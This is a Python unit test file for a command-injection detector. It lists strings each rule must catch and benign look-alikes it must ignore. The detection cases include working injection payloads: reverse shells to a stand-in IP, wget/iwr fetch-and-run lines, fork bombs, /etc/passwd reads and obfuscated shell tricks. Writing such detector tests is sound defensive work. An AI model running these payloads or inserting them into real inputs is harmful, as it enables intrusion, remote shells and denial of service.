"""Command injection: what must fire, and what must not."""

from services.detect.detectors.rce import DETECTOR
from tests.unit.detect.detectors.cases import (
    check_attacks,
    check_fires,
    check_silent,
    form,
    header,
    query,
)

FIRES = {
    "rce.unix-command": [(query, "; cat /srv/x"), (query, "| id"), (query, "&& whoami")],
    "rce.glued-command": [(query, "9;id;"), (query, "x|ls -la")],
    "rce.windows-command": [(query, "& ipconfig /all"), (query, "|tasklist")],
    "rce.assigned-command": [(query, "a='id';$a")],
    "rce.whole-command": [(query, "cat /etc/hostname"), (query, "ping -c 3 x")],
    "rce.download-and-run": [
        (query, "wget http://x.example/a.sh | sh"),
        (query, "; curl x.example/a"),
    ],
    "rce.substitution": [(query, "$(id)"), (query, "`whoami`")],
    "rce.shell-path": [(query, "/bin/sh"), (query, "x=/usr/bin/id")],
    "rce.reverse-shell": [
        (query, "nc -e /bin/sh 203.0.113.5 4444"),
        (query, "bash -i >& /dev/tcp/203.0.113.5/44"),
    ],
    "rce.powershell": [(query, "powershell -enc AAAA"), (query, "cmd /c dir")],
    "rce.timing": [(query, "; sleep 9"), (query, "| ping -n 9 127.0.0.1")],
    "rce.code-call": [(query, "os.system('id')"), (query, "__import__('os')")],
    "rce.variables": [(query, "cat${IFS}/etc"), (query, "{cat,/etc/x}")],
    "rce.redirect": [(query, "; echo x > /tmp/y"), (query, "echo 1 >> a.php")],
    "rce.glob": [(query, "/???/c?t /x"), (query, "; /b?n/ls")],
    "rce.batch": [(query, "for /f %i in (x) do y"), (query, "if exist C:\\x")],
    "rce.perl": [(query, "@{[ go() ]}")],
    "rce.ssi": [(query, '<!--#exec cmd="x" -->')],
    "rce.more-commands": [
        (query, ";visudo"),
        (query, "busybox -c 'date'"),
    ],
    "rce.agent-command": [
        (header, "User-Agent: ;id"),
        (header, "User-Agent: bash -c id"),
    ],
    "rce.batch-statement": [
        (query, "if /i not k==k ver"),
        (query, "if 3 lss 9 echo less"),
        (query, "for /f %i in ('ver') do echo %i"),
        (query, 'if "%1"=="" goto end'),
    ],
    "rce.powershell-fetch": [
        (query, ";iwr http://x.example/a.ps1"),
    ],
    "rce.alias": [
        (query, "alias -p ..='id'"),
        (query, "alias ll=id"),
    ],
    "rce.fork-bomb": [
        (query, "go(){ go | go & }; go"),
        (query, "b(){ b|b& };b"),
    ],
    "rce.brace-words": [
        (query, "{ls,-la}"),
        (query, "{/?in/i?,}"),
    ],
    "rce.empty-variable": [
        (query, "uname$x -a"),
        (query, "ca``t"),
        (query, ";$z cat $z x"),
    ],
    "rce.quoted-command": [
        (query, "sh -c id"),
        (query, "%x{id}"),
        (query, ";'wget' http://x.example/a"),
        (query, "cd /;ls"),
    ],
    "rce.program-path": [
        (query, "/usr/bin/zip -T"),
    ],
    "rce.shell-shorthand": [
        (query, "~+2"),
        (query, "!-1!-3"),
        (query, "$[3*4]"),
    ],
    "rce.windows-tool": [
        (query, "1;regedit /e a.reg"),
    ],
}

ATTACKS = [
    (query, "127.0.0.1; cat /etc/passwd"),
    (query, "x`id`"),
    (query, "a && c''at /etc/hosts"),
    (query, "%3Bcat%20/etc/passwd"),
]

SILENT = [
    (query, "if a == b then stop"),
    (query, "alias: an assumed name"),
    (query, "50%x (about)"),
    (query, "cats & dogs; more to come"),
    (query, "name|date|time|type|id"),
    (query, "R&D | Sales"),
    (query, "a; b; c"),
    (query, "salt & pepper"),
    (query, "find the host; read the date"),
    (query, "```python\nimport os\n```\nis how you run the rest of it"),
    (query, "tail -f is a fine way to read"),
    (query, "&lt;id&gt;"),
    (query, "echo chamber"),
    (query, "| a | b |\n|---|---|\n| id | date |"),
    (header, "User-Agent: Mozilla/5.0 (X11; U; id) Gecko"),
    (header, "User-Agent: curl/8.5.0"),
    (header, "User-Agent: Wget/1.21 (linux-gnu)"),
    (query, "alias names of cities"),
    (query, "{name}"),
    (query, "screen and printer"),
    (form, "body=if (a == b) { echo }"),
    (query, "usr/share/bin-packing"),
]


def test_every_rule_fires_on_its_cases() -> None:
    assert sum(len(cases) for cases in FIRES.values()) == 61
    check_fires(DETECTOR, FIRES)


def test_whole_attacks_are_called_so() -> None:
    check_attacks(DETECTOR, ATTACKS)


def test_look_alikes_are_silent() -> None:
    check_silent(SILENT)
